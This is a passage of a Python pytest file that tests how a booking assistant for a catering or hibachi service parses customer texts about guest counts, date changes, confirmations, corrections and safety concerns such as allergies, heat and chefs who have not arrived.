        assert not slots.at_odds([fewer, total], [[], []], {"adults": 13, "kids": 4})
        assert not slots.at_odds([fewer, total], [[], []], {"adults": 11, "kids": 4, "toddlers": 2})
        assert slots.at_odds([fewer, total], [[], []], {"adults": 13, "kids": 5})

    @pytest.mark.parametrize(
        ("text", "totals"),
        [
            (
                "we'll be 26 adults and 4 kids and 2 toddlers",
                [(26, "adults"), (4, "kids"), (2, "toddlers")],
            ),
            (
                "we will be 20 adults, 4 kids and 2 toddlers",
                [(20, "adults"), (4, "kids"), (2, "toddlers")],
            ),
            # one count read by two rules is one find
            ("we are 26 adults and 4 kids", [(26, "adults"), (4, "kids")]),
        ],
    )
    def test_every_group_of_a_listed_total_is_read_once(
        self, text: str, totals: list[tuple[int, str]]
    ) -> None:
        got = ent.find_guests(text)
        assert [(g.change.total, g.change.group) for g in got] == totals

    def test_a_drop_out_read_from_of_the(self) -> None:
        got = ent.find_guests("3 of the guys bailed on us")
        assert [(g.change.delta, g.change.group) for g in got] == [(-3, "guests")]


class TestDatesFromTheParty:
    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            # the party is on Wednesday June 17; NOW is Wednesday June 10
            ("can we push it back a week?", date(2026, 6, 24)),
            ("move it a week later pls", date(2026, 6, 24)),
            ("push it back 2 weeks", date(2026, 7, 1)),
            ("move our party to the following Saturday", date(2026, 6, 20)),
            ("can we do the saturday after instead", date(2026, 6, 20)),
            ("can we move it to the day before?", date(2026, 6, 16)),
            ("can we move it up a week", date(2026, 6, 10)),
            # said from something else: from today as before
            ("can we move it to next Saturday?", date(2026, 6, 13)),
        ],
    )
    def test_a_date_said_from_the_party_moves_from_the_partys_date(
        self, reader: Reader, text: str, expected: date
    ) -> None:
        """Shown failing before: "the following Saturday" for a party on a Wednesday was the
        next Saturday from today, before the party; "push it back a week" had no date."""
        context = Context(now=NOW, timezone=TIMEZONE, event_date=date(2026, 6, 17))
        u = reader.understand(text, context, VOCABULARY)
        assert intents(u) == ["date_change"]
        assert u.requests[0].entities.date == expected


class TestBareAnswers:
    @pytest.mark.parametrize("text", ["ok do it", "yep go ahead", "nope", "👍"])
    def test_a_bare_yes_or_no_asks_for_nothing(self, reader: Reader, text: str) -> None:
        """Shown failing before: "ok do it" with nothing read back was a general question
        (0.82, from "can u do it in the garage")."""
        got = reader.understand(text, context(), VOCABULARY)
        assert intents(got) == ["other"]

    def test_a_question_with_the_same_words_is_still_read(self, reader: Reader) -> None:
        got = reader.understand("can u do it in the garage", context(), VOCABULARY)
        assert intents(got) != ["other"]


class TestServedNotCounted:
    def test_a_count_less_headcount_beside_a_menu_for_groups_is_not_asked(self) -> None:
        """Shown failing before: "🥩🦐 for the adults, 🍗 for kids" was also read as a
        headcount change with no count, and the turn asked "How many guests should we plan
        for?"."""
        clauses = [reader_module._Clause(0, 40)]
        menu = Request(intent="menu_selection", entities=Entities(proteins=["steak", "shrimp"]))
        count = Request(intent="headcount_change", confidence=0.85)
        got = reader_module._served_not_counted([(0, menu), (20, count)], clauses)
        assert [r.intent for _, r in got] == ["menu_selection"]

    def test_a_headcount_in_a_clause_of_its_own_stays(self) -> None:
        clauses = [reader_module._Clause(0, 30), reader_module._Clause(30, 60)]
        menu = Request(intent="menu_selection", entities=Entities(proteins=["steak", "shrimp"]))
        count = Request(intent="headcount_change", confidence=0.6)
        placed = [(0, menu), (40, count)]
        assert reader_module._served_not_counted(placed, clauses) == placed


class TestNothingToChangeAsked:
    def test_a_change_naming_nothing_in_a_question_is_the_question(self) -> None:
        """Shown failing before: "wait how much r scallops extra" was a menu choice with no
        values, and the turn asked "Which would you like?"."""
        placed = [
            (0, Request(intent="faq", confidence=0.6)),
            (5, Request(intent="menu_selection", confidence=0.7)),
        ]
        words = ["wait", "how", "much", "are", "scallops", "extra"]
        lexicon = Lexicon.load("en")
        got = reader_module._asked_with_nothing_to_change(placed, " ".join(words), words, lexicon)
        assert [r.intent for _, r in got] == ["faq"]
        alone = reader_module._asked_with_nothing_to_change(
            placed[1:], " ".join(words), words, lexicon
        )
        assert [r.intent for _, r in alone] == ["faq"]

    def test_a_change_told_or_with_values_stays(self) -> None:
        lexicon = Lexicon.load("en")
        told = [(0, Request(intent="headcount_change", confidence=0.7))]
        words = ["we", "need", "to", "change", "the", "headcount"]
        assert reader_module._asked_with_nothing_to_change(told, "", words, lexicon) == told
        valued = [
            (
                0,
                Request(
                    intent="headcount_change",
                    entities=Entities(guests=GuestChange(delta=3, group="kids")),
                ),
            )
        ]
        words = ["how", "much", "for", "3", "more", "kids"]
        assert reader_module._asked_with_nothing_to_change(valued, "", words, lexicon) == valued


class TestConcernsWin:
    def test_a_concern_only_the_model_finds_adds_no_request(self) -> None:
        fears_a_complaint = _Says({"faq": 0.99}, {"none": 0.5, "HIGH": 0.5})
        got = Reader(fears_a_complaint).understand(
            "hmm so what exactly does the deposit cover", context(), VOCABULARY
        )
        assert got.concern == "complaint"
        assert intents(got) == ["faq"]

    @pytest.mark.parametrize(
        ("text", "concern"),
        [
            ("2nd time asking!! we are 18 adults now", "unanswered"),
            ("nobody ever got back to me. just cancel it", "unanswered"),
            ("CANCEL IT. asked 3 times", "unanswered"),
            ("for the third time, cancel the party", "unanswered"),
            ("still waiting on a reply, cancel our booking", "unanswered"),
            ("buzz 3B, and if no one answers call me", None),
            ("dad changed his mind for the 5th time lol, cancel the whole thing", None),
            ("I've asked you to cancel this three times now", "unanswered"),
            ("I have twice requested a cancellation without response", "unanswered"),
            ("it keeps getting lost. cancel the party", "unanswered"),
            ("you keep missing my texts, cancel it", "unanswered"),
            ("the booking still shows saturday after I told you to cancel", "unanswered"),
        ],
    )
    def test_a_request_made_again_after_no_reply_reaches_a_person_as_itself(
        self, text: str, concern: str | None
    ) -> None:
        """The office failed the customer: a person sees it (rule I6 of docs/labelling.md),
        and the request is the one made again, with no complaint added beside it."""
        got = Reader(_Says({"cancellation": 0.99})).understand(text, context(), VOCABULARY)
        assert got.concern == concern
        assert intents(got) == ["cancellation"]

    def test_every_concern_of_a_message_is_read_the_most_urgent_first(self) -> None:
        """Shown failing before: the first cue found was the message's one concern, so the
        allergen question and the request made again beside heat went unread."""
        got = Reader(_Says({"headcount_change": 0.99})).understand(
            "2nd time asking! we're 14 now, it's supposed to hit 103 that day. any nuts in the "
            "yum yum sauce?",
            context(),
            VOCABULARY,
        )
        assert got.concerns == ("unsafe_weather", "unanswered", "allergy")
        assert got.concern == "unsafe_weather"
        assert intents(got) == ["headcount_change", "weather_concern", "dietary_request"]

    @pytest.mark.parametrize(("read", "tone"), [("neutral", "frustrated"), ("anxious", "anxious")])
    def test_a_request_made_again_sounds_frustrated_unless_worried(
        self, read: str, tone: str
    ) -> None:
        """docs/labelling.md, rule T4: "third time I'm asking" is exasperation, whatever the
        register; worry about the party stays worry."""
        got = Reader(_Says({"headcount_change": 0.99}, tone=read)).understand(
            "for the second time, we are 18 adults now", context(), VOCABULARY
        )
        assert got.tone == tone

    def test_the_first_complaint_of_a_message_stands_for_the_others(self) -> None:
        got = Reader(_Says({"complaint": 0.99})).understand(
            "the chef still isn't here, this is unacceptable", context(), VOCABULARY
        )
        assert got.concerns == ("no_show", "complaint")
        assert intents(got) == ["no_show"]  # one case: the missing chef, URGENT

    def test_a_burst_keeps_every_concern_the_most_urgent_first(self) -> None:
        def said(*concerns: Concern) -> Understanding:
            return Understanding(
                tone="neutral", requests=[Request(intent="faq")], concerns=concerns
            )

        got = reader_module.combine([said("allergy"), said("unsafe_weather", "allergy")])
        assert got.concerns == ("unsafe_weather", "allergy")

    def test_concerns_are_ranked_as_the_policy_ranks_their_priorities(self) -> None:
        ranks = [PRIORITY_RANK[CONCERN_PRIORITY[c]] for c in URGENCY]
        assert ranks == sorted(ranks, reverse=True)
        assert set(URGENCY) == set(get_args(Concern)) == set(CONCERN_PRIORITY)

    @pytest.mark.parametrize(
        ("safety", "concern"),
        [
            ({"none": 0.65, "MEDIUM": 0.01, "HIGH": 0.33, "URGENT": 0.01}, "complaint"),
            ({"none": 0.6, "MEDIUM": 0.3, "HIGH": 0.08, "URGENT": 0.02}, "allergy"),
            ({"none": 0.7, "MEDIUM": 0.1, "HIGH": 0.1, "URGENT": 0.1}, None),
        ],
    )
    def test_a_fair_chance_of_a_person_is_named_by_its_likeliest_kind(
        self, safety: dict[str, float], concern: str | None
    ) -> None:
        """Neither a complaint nor an allergy alone is likely enough, but together they are:
        the case is the kind that makes most of the chance ("do you charge a travel fee?
        we're 45 miles out" is no allergy)."""
        reader = Reader(_Says({"faq": 0.99}, safety=safety))
        got = reader.understand(
            "do you charge a travel fee? we're 45 miles out", context(), VOCABULARY
        )
        assert got.concern == concern

    @pytest.mark.parametrize(
        ("text", "after_event", "concern", "intent"),
        [
            ("its 6:20 and the chef still isn't here??", False, "no_show", "no_show"),
            ("where is the chef, guests are starving", False, "no_show", "no_show"),
            ("you charged my card twice for the deposit", False, "billing", "complaint"),
            ("cancel it or im disputing the deposit w my bank", False, "billing", "complaint"),
            (  # a diet mentioned beside a storm never lowers the case
                "my dad is diabetic and theres lightning right over the yard",
                False,
                "unsafe_weather",
                "weather_concern",
            ),
            ("do you have gluten free options?", False, "allergy", "dietary_request"),
            ("my son's throat closes if he eats shrimp", False, "allergy", "dietary_request"),
            (
                "thunderstorm warning for saturday, lightning all evening",
                False,
                "unsafe_weather",
                "weather_concern",
            ),
            ("half of us got sick after the party last night", True, "illness", "complaint"),
            (
                "a few guests said their stomachs were off the next day",
                True,
                "illness",
                "complaint",
            ),
            (
                "my niece got really itchy after dinner, she has a nut allergy",
                True,
                "illness",
                "complaint",
            ),
            (
                "a flying shrimp hit my grandma in the eye, today her eye is red and swollen",
                True,
                "injury",
                "complaint",
            ),
            (
                "chef is fun but he ran out of chicken and 4 kids havent eaten",
                False,
                "complaint",
                "complaint",
            ),
            ("I'll be talking to my lawyer about this", False, "legal", "complaint"),
            ("the chef was due 20 minutes ago, is he close", False, "no_show", "no_show"),
            ("it's 6:10 now and the chef said 5:45, everything ok?", False, "no_show", "no_show"),
            ("we were told 4:30pm. it is now 5:05pm.", False, "no_show", "no_show"),
            ("my nephew swells up around peanuts", False, "allergy", "dietary_request"),
            ("wife is pregnent, nothing undercooked for her", False, "allergy", "dietary_request"),
            ("GF option for 1?", False, "allergy", "dietary_request"),
            ("dairy free for 2 ppl pls", False, "allergy", "dietary_request"),
            (
                "dad just had dental surgery so soft food for him",
                False,
                "allergy",
                "dietary_request",
            ),
            ("im pregnant so my steak well done pls", False, "allergy", "dietary_request"),
            (  # heat of 100 or more without "degrees"
                "its supposed to hit 104 on saturday and theres zero shade",
                False,
                "unsafe_weather",
                "weather_concern",
            ),
            ("triple digits all weekend, we still on?", False, "unsafe_weather", "weather_concern"),
            ("any sesame oil in the fried rice?", False, "allergy", "dietary_request"),
            ("do the noodles have egg in them", False, "allergy", "dietary_request"),
            ("is there msg in anything? she gets migraines", False, "allergy", "dietary_request"),
            ("dad has gout so no shrimp for him", False, "allergy", "dietary_request"),
            ("my mom gets really sick from dairy", False, "allergy", "dietary_request"),
        ],
    )
    def test_a_concern_reaches_a_person_whatever_the_model_reads(
        self, text: str, after_event: bool, concern: str, intent: str
    ) -> None:
        reader = Reader(_says_faq())
        got = reader.understand(text, context(after_event=after_event), VOCABULARY)
        assert got.concern == concern
        assert intent in intents(got)
        assert "faq" not in intents(got) or intents(got).index(intent) >= 0

    @pytest.mark.parametrize(
        ("text", "due", "concern"),
        [
            ("running late??", True, "no_show"),
            (
                "been sitting outside 45 min waiting on this chef, my dad is diabetic",
                True,
                "no_show",
            ),
            ("is he running a bit late?", True, "no_show"),
            ("⏰❓👨‍🍳", True, "no_show"),
            ("running late??", False, None),  # days ahead: not about the chef
            ("sorry we're running late, can he start at 6:30", True, None),  # the customer is
            ("we're all just standing around waiting", True, "no_show"),
            ("does he have the right address?? 12 Oak St", True, "no_show"),
            ("is he lost?", True, "no_show"),
            ("everyone's here, just no grill", True, "no_show"),
            ("still nothing and it's 7:40", True, "no_show"),
            # no reply while the chef is due is about the chef, not a request made again
            ("I've texted 3 times tonight. call me", True, "no_show"),
            ("I've texted 3 times this week. call me", False, "unanswered"),
            # days ahead, waiting is something that may happen, not a chef who has not come
            ("half our people would be standing around waiting at 5", False, None),
        ],
    )
    def test_lateness_asked_while_the_chef_is_due_is_a_late_chef(
        self, text: str, due: bool, concern: str | None
    ) -> None:
        on_the_day = Context(now=NOW, timezone=TIMEZONE, chef_due=due)
        got = Reader(_says_faq()).understand(text, on_the_day, VOCABULARY)
        assert got.concern == concern

    def test_a_corpus_line_says_when_it_was_sent_while_the_chef_was_due(self) -> None:
        line = (
            '{"id": "a", "text": "Is he close?", "context": {"pending": null, "after_event": '
            'false, "chef_due": true}, "intents": ["no_show"], "tone": "neutral"}'
        )
        example = corpora.parse_line(line, "x.jsonl:1", "en", "x")
        assert example.chef_due and context_for(example).chef_due

    @pytest.mark.parametrize(
        "text", ["my gf is coming too, so 1 more adult", "my pregnant sister can't come after all"]
    )
    def test_a_person_is_no_medical_diet(self, text: str) -> None:
        got = Reader(_says_faq()).understand(text, context(), VOCABULARY)
        assert got.concern is None

    @pytest.mark.parametrize(
        "text",
        [
            "we're going to be 100 people now",
            "so the total is going to be 110 right?",
            "it's supposed to be 104 more with the kids?",
        ],
    )
    def test_a_hundred_that_counts_people_or_money_is_no_heat(self, text: str) -> None:
        got = Reader(_says_faq()).understand(text, context(), VOCABULARY)
        assert got.concern is None

    def test_illness_before_the_event_explains_a_change_and_is_no_concern(self) -> None:
        reader = Reader(_says_faq())
        got = reader.understand("my wife got sick so we'll be one fewer", context(), VOCABULARY)
        assert got.concern is None


class TestAnswers:
    @pytest.mark.parametrize(
        "text",
        [
            "YES",
            "yes!",
            "Yep",
            "yeah thanks",
            "correct",
            "k",
            "👍",
            "ya",
            "Yah!",
            "ok do it",
            "yep go ahead",
            "ok do it lol",  # a filler around the answer
            "yes please 🙏",
            "wait actually ok do it",  # a change of mind said around the answer
            # shown failing before: a formal yes was not read, and the read-back was lost
            "Yes, that is correct.",
            "That works, please proceed.",
            "absolutely",
        ],
    )
    def test_yes(self, reader: Reader, text: str) -> None:
        assert reader.answer(text) == "yes"

    @pytest.mark.parametrize(
        "text", ["no", "Nope.", "that's wrong", "nah dont", "nvm keep it", "forget it"]
    )
    def test_no(self, reader: Reader, text: str) -> None:
        assert reader.answer(text) == "no"

    @pytest.mark.parametrize(
        ("text", "answer"),
        [
            ("nvm keep 6", "no"),  # what a take-back keeps is no count
            ("forget it, let's keep it at 6pm", "no"),
            ("scratch that, stick with saturday", "no"),
            ("nvm keep 6 and add 2 kids", None),  # says more than keeping
            ("nvm keep me posted", None),  # keeps nothing
            ("keep 16 adults", None),  # no take-back: may be a yes to "16 adults?"
        ],
    )
    def test_a_take_back_keeping_something_is_a_no(
        self, reader: Reader, text: str, answer: str | None
    ) -> None:
        assert reader.answer(text) == answer

    @pytest.mark.parametrize(
        ("text", "intents"),
        [
            ("ok good to know thx, not canceling just asking", ["other"]),
            ("no no we're not cancelling", ["other"]),
            ("we're not cancelling but can we add 2 ppl", ["headcount_change"]),
            ("cancel the noodles pls", ["menu_selection"]),  # an add-on, not the party
            ("what would we lose? not cancelling, just asking", ["faq"]),  # the policy
            ("no, cancel it", ["cancellation"]),  # a bare no answers something else
        ],
    )
    def test_cancelling_denied_or_said_of_an_item_cancels_nothing(
        self, reader: Reader, text: str, intents: list[str]
    ) -> None:
        got = reader.understand(text, context(pending="cancel_choice"), VOCABULARY)
        assert [r.intent for r in got.requests] == intents

    @pytest.mark.parametrize(
        ("text", "answer"),
        [
            ("nvm keep the date lol", None),  # the date is no change read back
            ("scratch that, stick with saturday", None),
            ("forget it, let's keep it at 6pm", None),
            ("never mind keep it on the 12th", None),
            ("nvm keep 6", "no"),  # a count may be the one read back
            ("nvm keep the steak", "no"),
            ("nvm keep it", "no"),
            # shown failing before: "no wait" to a read-back was asked again, with an apology
            ("no wait", "no"),
            ("wait no", "no"),
        ],
    )
    def test_a_take_back_to_a_read_back_keeping_a_date_answers_another_request(
        self, reader: Reader, text: str, answer: str | None
    ) -> None:
        assert reader.answer(text, read_back=True) == answer

    @pytest.mark.parametrize(
        "text",
        [
            "yes but make it 18",
            "what?",
            "16 adults",
            "ok no wait",
            "ok wait",
            "that is not correct",
        ],
    )
    def test_anything_more_is_not_an_answer(self, reader: Reader, text: str) -> None:
        assert reader.answer(text) is None

    @pytest.mark.parametrize(
        ("text", "noted"),
        [("ok cool thx", True), ("got it 👍", True), ("ok thanks", True), ("ok but 16", False)],
    )
    def test_an_acknowledgement_says_yes_to_nothing(
        self, reader: Reader, text: str, noted: bool
    ) -> None:
        assert reader.acknowledges(text) is noted
        assert reader.answer(text, consent=True) is None

    @pytest.mark.parametrize(
        ("text", "answer"),
        [
            ("ok do it", "yes"),
            ("ok do it lol", "yes"),
            ("yes please", "yes"),
            ("sure", "yes"),
            ("ok thanks", None),  # the price noted, no change asked for
            ("👍", None),
            ("perfect", None),
            ("no thanks", "no"),
        ],
    )
    def test_a_change_offered_takes_a_yes_that_consents(
        self, reader: Reader, text: str, answer: str | None
    ) -> None:
        assert reader.answer(text, consent=True) == answer


class TestTakenBack:
    @pytest.mark.parametrize("text", ["actually nvm no lobster", "never mind no noodles then"])
    def test_a_change_naming_nothing_beside_a_take_back_asks_nothing(
        self, reader: Reader, text: str
    ) -> None:
        got = reader.understand(text, context(pending="menu"), VOCABULARY)
        assert [r.intent for r in got.requests] == ["other"]
        assert got.requests[0].entities.kept

    @pytest.mark.parametrize(
        "text", ["nvm forget the lobster", "never mind the lobster, too pricey"]
    )
    def test_a_dish_turned_down_beside_a_take_back_asks_nothing(
        self, reader: Reader, text: str
    ) -> None:
        """Shown failing before: "nvm forget the lobster" to "Which 2 would you like?" read the
        lobster as wanted, and the menu question was asked again."""
        got = reader.understand(text, context(pending="menu"), VOCABULARY)
        assert [r.intent for r in got.requests] == ["other"]
        assert got.requests[0].entities.kept

    def test_a_change_with_values_beside_a_take_back_stands(self, reader: Reader) -> None:
        got = reader.understand("nvm the lobster, just chicken and shrimp", context(), VOCABULARY)
        assert got.requests[0].intent in ("menu_selection", "protein_swap")
        assert set(got.requests[0].entities.proteins) == {"chicken", "shrimp"}


class TestRecount:
    """A short reply to a read-back that gives a count in place of the one read back."""

    @pytest.mark.parametrize(
        ("text", "proposed", "recounted"),
        [
            (
                "just 1 person",
                GuestChange(delta=2, group="adults"),
                GuestChange(delta=1, group="adults"),
            ),
            (
                "no only one",
                GuestChange(delta=2, group="adults"),
                GuestChange(delta=1, group="adults"),
            ),
            ("1 not 2", GuestChange(delta=2, group="adults"), GuestChange(delta=1, group="adults")),
            (
                "no just 3",
                GuestChange(delta=-2, group="guests"),
                GuestChange(delta=-3, group="guests"),
            ),
            (
                "sorry 15",
                GuestChange(total=16, group="adults"),
                GuestChange(total=15, group="adults"),
            ),
            (
                "just 2 more kids",
                GuestChange(delta=3, group="adults"),
                GuestChange(delta=2, group="kids"),
            ),
            (
                "no just 1 more",
                GuestChange(total=16, group="guests"),
                GuestChange(delta=1, group="guests"),
            ),
            (
                "2 fewer",
                GuestChange(delta=3, group="adults"),
                GuestChange(delta=-2, group="adults"),
            ),
            # a yes said with a count, or held back for another
            (
                "yes but 15",
                GuestChange(total=14, group="adults"),
                GuestChange(total=15, group="adults"),
            ),
            (
                "yes 14",
                GuestChange(total=14, group="adults"),
                GuestChange(total=14, group="adults"),
            ),
            # "no" answers the question; it does not take the count back
            ("no 15", GuestChange(total=14, group="adults"), GuestChange(total=15, group="adults")),
        ],
    )
    def test_the_count_replaces_the_one_read_back(
        self, reader: Reader, text: str, proposed: GuestChange, recounted: GuestChange
    ) -> None:
        assert reader.recount(text, proposed) == recounted

    @pytest.mark.parametrize(
        "text",
        [
            "yes",
            "what time does the chef get here",
            "2 or 3, not sure yet",  # two counts: which one is meant?
            "ok so my sister and her husband are coming, maybe 1 more of her friends after",
            "at 5",  # a time, not a count
            "no, 15 adults",  # a new total more likely than 15 more
        ],
    )
    def test_anything_else_is_no_recount(self, reader: Reader, text: str) -> None:
        assert reader.recount(text, GuestChange(delta=2, group="adults")) is None

    def test_a_count_of_at_least_those_booked_is_the_new_count(self, reader: Reader) -> None:
        # "Just to confirm: 12 adults?" (2 more than 10) answered "no 13": 13 adults, not 23
        more = GuestChange(delta=2, group="adults")
        assert reader.recount("no 13", more, 10) == GuestChange(total=13, group="adults")
        assert reader.recount("no just 1", more, 10) == GuestChange(delta=1, group="adults")


class TestCorrects:
    """A short reply to "Done: ..." that corrects the guest change just made, as a change to the
    booking as it now is."""

    @pytest.mark.parametrize(
        ("text", "made", "corrected"),
        [
            # 2 kids added, 1 meant: one kid fewer than now
            (
                "no sorry just 1",
                GuestChange(delta=2, group="kids"),
                GuestChange(delta=-1, group="kids"),
            ),
            (
                "oops i meant 3",
                GuestChange(delta=2, group="adults"),
                GuestChange(delta=1, group="adults"),
            ),
            (
                "actually make that 1",
                GuestChange(delta=2, group="kids"),
                GuestChange(delta=-1, group="kids"),
            ),
            # 3 went, 2 meant: one back
            (
                "sorry i meant 2",
                GuestChange(delta=-3, group="guests"),
                GuestChange(delta=1, group="guests"),
            ),
            # a total for a total
            (
                "no sorry 15",
                GuestChange(total=14, group="guests"),
                GuestChange(total=15, group="guests"),
            ),
        ],
    )
    def test_the_count_replaces_the_one_just_made(
        self, reader: Reader, text: str, made: GuestChange, corrected: GuestChange
    ) -> None:
        assert reader.corrects(text, made) == corrected

    def test_a_count_of_at_least_those_before_is_the_new_count(self, reader: Reader) -> None:
        # 2 adults added to 10, then "no sorry 13": 13 adults, not 13 more
        made = GuestChange(delta=2, group="adults")
        assert reader.corrects("no sorry 13", made, 10) == GuestChange(total=13, group="adults")

    @pytest.mark.parametrize(
        ("text", "made"),
        [
            # nothing says it corrects: a new change, read as it stands
            ("just 1", GuestChange(delta=2, group="kids")),
            ("3 more kids", GuestChange(delta=2, group="kids")),
            # the same count again changes nothing
            ("sorry 2", GuestChange(delta=2, group="kids")),
            # another group: not the change made
            ("no sorry 2 adults", GuestChange(delta=2, group="kids")),
            # a change to a total is read as it stands
            ("no sorry 1 more", GuestChange(total=14, group="guests")),
            ("sorry what time is the chef coming", GuestChange(delta=2, group="kids")),
        ],
    )
    def test_anything_else_corrects_nothing(
        self, reader: Reader, text: str, made: GuestChange
    ) -> None:
        assert reader.corrects(text, made) is None


class TestRegrouped:
    """A reply that puts the guests just added or taken off in another group ("Done: 12
    guests (10 adults, 2 kids)" answered "sorry 2 adults not kids")."""

    @pytest.mark.parametrize(
        ("text", "made", "undone", "instead"),
        [
            ("sorry 2 adults not kids", 2, ("kids", -2), ("adults", 2)),
            ("oops i meant adults", 2, ("kids", -2), ("adults", 2)),
            ("sorry they are adults", 2, ("kids", -2), ("adults", 2)),
            # the reply's own count is the new group's
            ("sorry 3 adults not kids", 2, ("kids", -2), ("adults", 3)),
            ("no sorry, two adults", 2, ("kids", -2), ("adults", 2)),
        ],
    )
    def test_the_change_moves_to_the_group_named(
        self,
        reader: Reader,
        text: str,
        made: int,
        undone: tuple[str, int],
        instead: tuple[str, int],
    ) -> None:
        fixes = reader.regroups(text, GuestChange(delta=made, group="kids"))
        assert fixes is not None
        assert [(f.group, f.delta) for f in fixes] == [undone, instead]

    def test_guests_added_with_no_group_were_adults(self, reader: Reader) -> None:
        """Shown failing before: "add 3 more" (3 adults) answered "no, 3 kids" asked how many
        guests in all."""
        fixes = reader.regroups("no, 3 kids", GuestChange(delta=3, group="guests"))
        assert fixes == (
            GuestChange(delta=-3, group="adults"),
            GuestChange(delta=3, group="kids"),
        )

    def test_guests_taken_off_are_taken_off_the_group_named(self, reader: Reader) -> None:
        fixes = reader.regroups("sorry 2 kids not adults", GuestChange(delta=-2, group="adults"))
        assert fixes == (
            GuestChange(delta=2, group="adults"),
            GuestChange(delta=-2, group="kids"),
        )

    @pytest.mark.parametrize(
        ("text", "made"),
        [
            # nothing says it corrects
            ("adults not kids", GuestChange(delta=2, group="kids")),
            # the change's own group: a recount, not another group
            ("sorry 2 kids", GuestChange(delta=2, group="kids")),
            # two groups named, or a change of its own
            ("sorry adults and kids", GuestChange(delta=2, group="kids")),
            ("no add 2 adults too", GuestChange(delta=2, group="kids")),
            # a new total has no guests to move
            ("sorry adults", GuestChange(total=14, group="guests")),
            # guests with no group were adults already
            ("no sorry 3 adults", GuestChange(delta=3, group="guests")),
            ("sorry what time is the chef coming", GuestChange(delta=2, group="kids")),
        ],
    )
    def test_anything_else_regroups_nothing(
        self, reader: Reader, text: str, made: GuestChange
    ) -> None:
        assert reader.regroups(text, made) is None


class TestCountedTwice:
    def test_guests_with_no_group_and_the_same_number_named_are_one_change(
        self, reader: Reader
    ) -> None:
        """Shown failing before: read back as 6 more adults, and a YES stored them."""
        got = reader.understand(
            "a few more people are coming so can you add 3 more adults", context(), VOCABULARY
        )
        guests = [r.entities.guests for r in got.requests if r.intent == "headcount_change"]
        assert guests == [GuestChange(delta=3, group="adults")]


class TestRefuses:
    @pytest.mark.parametrize(
        ("text", "refused"),
        [
            ("no", True),
            ("nope thats wrong", True),
            ("scratch that", True),
            ("no leave it", False),  # keeps what was done
            ("keep it", False),
            ("no 3 kids", False),  # a correction, not a plain no
            ("yes", False),
        ],
    )
    def test_a_plain_no_that_keeps_nothing(self, reader: Reader, text: str, refused: bool) -> None:
        assert reader.refuses(text) is refused


class TestFollowingUp:
    """A short money question about the request of the message before it."""

    @pytest.mark.parametrize(
        ("text", "subject", "read"),
        [
            ("is there a fee for that?", "moving the date", "is there a fee for moving the date"),
            ("how much is that gonna cost me", "lobster", "how much is lobster going to cost me"),
            ("fee 4 that?", "moving the date", "fee for moving the date"),
            # no word points back, and the question reads as nothing of its own
            ("do i get anything back?", "cancelling", "do i get anything back for cancelling"),
        ],
    )
    def test_the_question_is_read_with_the_subject(
        self, reader: Reader, text: str, subject: str, read: str
    ) -> None:
        own = reader.understand(text, Context(now=NOW, timezone=TIMEZONE), VOCABULARY)
        assert reader.follows_up(text, subject, own) == read

    @pytest.mark.parametrize(
        "text",
        [
            "whats the travel fee",  # a question of its own, pointing at nothing
            "is that ok?",  # no money asked about
            "ok thanks, that works",
            "how much is that in total for all of us, kids and grandparents included, on the day",
        ],
    )
    def test_anything_else_is_no_follow_up(self, reader: Reader, text: str) -> None:
        own = reader.understand(text, Context(now=NOW, timezone=TIMEZONE), VOCABULARY)
        assert reader.follows_up(text, "moving the date", own) is None

    @pytest.mark.parametrize(
        ("text", "subject"),
        [
            ("can we move it to the 19th", "moving the date"),
            ("we need to cancel", "cancelling"),
            ("can we add lobster", "lobster"),
            ("swap the steak for filet mignon", "filet mignon"),
            ("add 2 kids", None),  # its reply states the new estimate
            ("nvm we're not cancelling, just asking", None),  # kept: nothing was asked for
        ],
    )
    def test_what_a_request_is_about(self, reader: Reader, text: str, subject: str | None) -> None:
        read = reader.understand(text, Context(now=NOW, timezone=TIMEZONE), VOCABULARY)
        assert reader.subject(read) == subject


class TestLearnedModel:
    def test_the_fast_path_reads_exactly_as_scikit_learn_does(self, reader: Reader) -> None:
        assert reader.model is not None
        examples = corpora.load().split("test")[:60]
        items = [reader.prepare(e.text, context_for(e), VOCABULARY).features for e in examples]
        for fast, slow in zip(
            reader.model.read(items), reader.model.read_slowly(items), strict=True
        ):
            assert fast.tone == slow.tone
            for label in LABELS:
                assert fast.intents[label] == pytest.approx(slow.intents[label], abs=1e-4)

    def test_a_number_is_one_shape_to_the_words_and_kept_by_the_characters(self) -> None:
        """How many people come says nothing of what the message asks: "we're 18 now" and
        "we're 23 now" are one message to the word features."""
        eighteen = Features.of("we're 18 now, the 28th at 5pm", "we're 18 now", ["rule_x"])
        twenty_three = Features.of("we're 23 now, the 28th at 5pm", "we're 23 now", ["rule_x"])
        assert eighteen.words == twenty_three.words == "we're 9 now, the 9th at 9pm rule_x"
        assert eighteen.chars != twenty_three.chars

    def test_the_model_knows_which_corpus_it_learned_from(self, reader: Reader) -> None:
        """The lexicon counts too: a shorthand word added to it changes the model's inputs."""
        assert reader.model is not None
        assert reader.model.provenance["corpus"] == training.fingerprint()

    def test_a_change_to_the_reader_code_asks_for_a_new_model(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A new hint in slots.py changes the model's inputs as a new corpus line does, so a
        model trained before it is not the one the code reads with."""
        assert Path(slots.__file__) in training.SOURCES
        source = tmp_path / "slots.py"
        source.write_text("HINT = 'count_is_age'\n")
        monkeypatch.setattr(training, "SOURCES", (source,))
        before = training.fingerprint()
        source.write_text("HINT = 'count_is_age'\nOTHER = 'way_after'\n")
        assert training.fingerprint() != before


class TestFrozenSplit:
    def test_every_test_id_is_a_corpus_message_and_the_held_out_file_is_all_test(self) -> None:
        corpus = corpora.load()
        ids = {e.id for e in corpus.examples}
        assert corpus.test_ids <= ids
        heldout = [e for e in corpus.examples if e.source == "heldout.jsonl"]
        assert heldout and all(e.id in corpus.test_ids for e in heldout)
        tuned = [e for e in corpus.examples if e.source == "tuned.jsonl"]
        assert tuned and not any(e.id in corpus.test_ids for e in tuned)

    def test_the_test_splits_messages_and_labels_never_change(self) -> None:
        """The test split is measured on, never edited: a relabel by a rule of
        docs/labelling.md is for training lines only (h085, a held-out line, was relabelled by
        mistake once and restored)."""
        frozen = (corpora.DATA / "en" / "test_labels.sha256").read_text("utf-8").split()[0]
        assert corpora.load().test_fingerprint() == frozen

    def test_a_safety_label_is_part_of_the_corpus_fingerprint(self) -> None:
        """A model trained before a safety relabel is not the one the corpus makes."""
        corpus = corpora.load()
        before = corpus.fingerprint()
        k = next(k for k, e in enumerate(corpus.examples) if e.safety is None)
